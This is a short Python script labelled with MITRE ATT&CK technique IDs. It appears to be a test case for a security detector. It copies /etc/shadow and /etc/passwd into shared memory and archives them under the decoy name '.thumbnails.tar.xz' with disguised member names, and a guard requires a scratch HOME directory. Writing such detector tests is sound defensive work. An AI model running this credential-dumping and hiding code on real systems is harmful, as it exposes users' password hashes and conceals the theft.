# technique: T1003.008 T1560.002
"""OS Credential Dumping: /etc/shadow (T1003.008) by shutil.copy, then
Archive via Library (T1560.002) with tarfile.

The shadow file is never open()ed by the script itself: shutil.copy()
copies /etc/shadow and /etc/passwd into a staging directory under
/dev/shm, and tarfile writes them into an xz-compressed archive with
innocuous member names (`a`, `b`). The staging copies are removed; the
archive stays in HOME.

A good detector raises a high alert: /etc/shadow is copied (the path is
the source of a copy), and the copy is archived.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import shutil
import tarfile
import tempfile

stage = tempfile.mkdtemp(dir="/dev/shm" if os.path.isdir("/dev/shm") else None)
try:
    names = {}
    for src, alias in (("/etc/shadow", "a"), ("/etc/passwd", "b")):
        try:
            names[alias] = shutil.copy(src, os.path.join(stage, alias))
        except OSError as e:
            print("cannot copy", src, e)
    out = os.path.join(os.path.expanduser("~"), ".thumbnails.tar.xz")
    with tarfile.open(out, "w:xz") as tar:
        for alias, path in names.items():
            tar.add(path, arcname=alias)
finally:
    shutil.rmtree(stage, ignore_errors=True)
